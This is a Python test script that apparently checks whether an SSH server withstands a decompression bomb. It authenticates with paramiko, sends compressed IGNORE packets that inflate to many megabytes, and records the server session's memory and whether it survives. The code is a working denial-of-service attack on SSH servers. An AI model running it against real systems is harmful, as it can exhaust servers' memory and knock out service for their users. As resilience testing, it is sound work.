#!/usr/bin/env python3
"""compress-bomb.py: a hostile SSH client (paramiko) that sends compressed
SSH2_MSG_IGNORE packets inflating far beyond a packet's size after auth.

  compress-bomb.py --port P --user U --key KEYFILE --sshd-pid PID
                   [--ok-size BYTES] [--bomb-size BYTES] [--bombs N]

Steps: authenticate with KEYFILE (zlib@openssh.com, delayed compression),
send an IGNORE of --ok-size zeros (a size any peer may send: it must be
accepted), then --bombs IGNOREs of --bomb-size zeros (16 MiB inflate from
~16 KiB), a keepalive@openssh.com request after each as a barrier.
Prints key=value lines: compression, ok_accepted, alive (after the bombs),
rss_before_kb / rss_after_kb (largest VmRSS of the sshd-session processes
under --sshd-pid, after auth and after the bombs; -1 when they are gone).
Test-only: it never checks the server's host key.
"""
import argparse
import os
import socket
import sys
import time

import paramiko

from bomb_common import add_bomb_args, ignore


def descendants(pid):
    kids = {}
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % d) as f:
                st = f.read()
            ppid = int(st[st.rindex(")") + 2:].split()[1])
        except (OSError, ValueError):
            continue
        kids.setdefault(ppid, []).append(int(d))
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        for c in kids.get(p, []):
            out.append(c)
            todo.append(c)
    return out


def session_rss_kb(sshd_pid):
    best = -1
    for p in descendants(sshd_pid):
        try:
            with open("/proc/%d/comm" % p) as f:
                comm = f.read().strip()
            if not comm.startswith("sshd-session"):
                continue
            with open("/proc/%d/status" % p) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        best = max(best, int(line.split()[1]))
        except OSError:
            continue
    return best


def barrier(t):
    """A request the server answers: returns once it processed what we sent
    before (or the connection is gone)."""
    if not t.is_active():
        return False
    try:
        t.global_request("keepalive@openssh.com", wait=True)
    except (EOFError, OSError, paramiko.SSHException):
        return False    # the server closed it while we asked
    time.sleep(0.2)
    return t.is_active()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--user", required=True)
    ap.add_argument("--key", required=True)
    ap.add_argument("--sshd-pid", type=int, required=True)
    add_bomb_args(ap)
    a = ap.parse_args()

    sock = socket.create_connection((a.host, a.port), timeout=30)
    t = paramiko.Transport(sock)
    t.use_compression(True)
    t.start_client(timeout=30)
    key = paramiko.Ed25519Key.from_private_key_file(a.key)
    t.auth_publickey(a.user, key)
    if not t.is_authenticated():
        print("error=auth failed")
        return 2
    ok = barrier(t)
    comp = t.local_compression
    print("compression=%s" % comp)
    if comp not in ("zlib@openssh.com", "zlib"):
        print("error=no compression negotiated")
        return 2
    time.sleep(0.5)
    print("rss_before_kb=%d" % session_rss_kb(a.sshd_pid))

    ignore(t, a.ok_size)
    ok = barrier(t)
    print("ok_accepted=%s" % ("yes" if ok else "no"))

    for _ in range(a.bombs):
        if not t.is_active():
            break
        try:
            ignore(t, a.bomb_size)
        except (EOFError, OSError, paramiko.SSHException):
            break
        barrier(t)
    time.sleep(1)
    alive = t.is_active()
    print("alive=%s" % ("yes" if alive else "no"))
    print("rss_after_kb=%d" % session_rss_kb(a.sshd_pid))
    t.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
